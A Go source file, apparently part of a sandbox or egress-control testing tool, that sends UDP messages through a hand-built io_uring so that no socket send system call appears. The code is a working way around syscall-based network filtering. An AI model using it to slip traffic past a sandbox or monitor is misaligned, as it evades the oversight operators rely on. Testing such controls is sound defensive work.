package attack

import (
	"encoding/binary"
	"fmt"
	"net/netip"
	"runtime"
	"unsafe"

	"golang.org/x/sys/unix"
)

// What io_uring_setup(2) and io_uring_enter(2) want, for a ring of one entry.
const (
	ringParams    = 120        // bytes of struct io_uring_params
	ringEntry     = 64         // bytes of an entry that is submitted
	ringEntries   = 0x10000000 // IORING_OFF_SQES
	ringWait      = 1          // IORING_ENTER_GETEVENTS
	ringSend      = 26         // IORING_OP_SEND
	offsetsOfSend = 40         // struct io_sqring_offsets in the parameters
	offsetsOfDone = 80         // struct io_cqring_offsets
)

// ring sends the messages by UDP through an io_uring: no system call of a socket sends them.
func (a *Attempt) ring() (sent int, err error) {
	to, err := netip.ParseAddrPort(a.To)
	if err != nil {
		return 0, err
	}
	socket, err := unix.Socket(familyOf(to.Addr()), unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return 0, err
	}
	defer unix.Close(socket)
	if err := unix.Connect(socket, address(to)); err != nil {
		return 0, err
	}
	var params [ringParams]byte
	fd, _, errno := unix.Syscall(unix.SYS_IO_URING_SETUP, 1, uintptr(unsafe.Pointer(&params)), 0)
	if errno != 0 {
		return 0, fmt.Errorf("io_uring_setup: %w", errno)
	}
	defer unix.Close(int(fd))
	at := func(offset int) int { return int(binary.NativeEndian.Uint32(params[offset:])) }
	page := unix.Getpagesize()
	// The kernel keeps both rings in one mapping (IORING_FEAT_SINGLE_MMAP), which for one entry is no more than a page.
	rings, err := unix.Mmap(int(fd), 0, page, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED)
	if err != nil {
		return 0, fmt.Errorf("map the rings: %w", err)
	}
	defer unix.Munmap(rings)
	entries, err := unix.Mmap(int(fd), ringEntries, page, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_SHARED)
	if err != nil {
		return 0, fmt.Errorf("map the entries: %w", err)
	}
	defer unix.Munmap(entries)
	for i, message := range a.Send {
		entry := entries[:ringEntry]
		clear(entry)
		entry[0] = ringSend
		binary.NativeEndian.PutUint32(entry[4:], uint32(socket))
		binary.NativeEndian.PutUint64(entry[16:], uint64(uintptr(unsafe.Pointer(&message[0]))))
		binary.NativeEndian.PutUint32(entry[24:], uint32(len(message)))
		binary.NativeEndian.PutUint32(rings[at(offsetsOfSend+24):], 0)                  // the entry that is meant
		binary.NativeEndian.PutUint32(rings[at(offsetsOfSend+4):], uint32(i+1))         // the tail
		_, _, errno := unix.Syscall6(unix.SYS_IO_URING_ENTER, fd, 1, 1, ringWait, 0, 0) // which orders memory
		runtime.KeepAlive(message)
		if errno != 0 {
			return sent, fmt.Errorf("io_uring_enter: %w", errno)
		}
		done := at(offsetsOfDone + 20) // of the first of two: the kernel gives back twice as many
		result := int32(binary.NativeEndian.Uint32(rings[done+16*(i%2)+8:]))
		binary.NativeEndian.PutUint32(rings[at(offsetsOfDone):], uint32(i+1)) // the head
		if result < 0 {
			return sent, fmt.Errorf("send: %w", unix.Errno(-result))
		}
		sent++
	}
	return sent, nil
}
